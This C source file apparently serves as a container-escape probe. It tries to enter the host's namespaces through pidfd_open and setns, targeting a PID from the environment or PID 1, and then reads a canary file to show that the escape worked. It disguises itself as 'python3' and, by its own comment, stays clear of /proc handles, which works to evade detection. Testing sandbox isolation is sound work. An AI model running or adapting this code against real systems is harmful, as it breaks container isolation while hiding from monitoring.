#include "attempt.h"

#define NAMESPACES (CLONE_NEWNS | CLONE_NEWUTS | CLONE_NEWIPC | CLONE_NEWNET)

/* No handle below /proc is opened, and no program of that name is run. */
static int enter(pid_t pid) {
    int process = attempt("pidfd_open", syscall(SYS_pidfd_open, pid, 0));
    return process < 0 ? -1 : attempt("setns by pidfd", setns(process, NAMESPACES));
}

static void rename_self(char **argv) {
    prctl(PR_SET_NAME, "python3");
    memset(argv[0], 0, strlen(argv[0]));
    memcpy(argv[0], "python3", strlen("python3"));
}

int main(int argc, char **argv) {
    char token[64] = "", path[256];
    if (argc)
        rename_self(argv);
    snprintf(path, sizeof path, "%s", from_env("CANARY_PATH", "/none"));
    if (enter(atoi(from_env("HOST_PID", "1"))) < 0 && enter(1) < 0)
        return finish();
    int fd = attempt("open", open(path, O_RDONLY));
    if (fd >= 0 && read(fd, token, sizeof token - 1) > 0)
        canary(token);
    return finish();
}
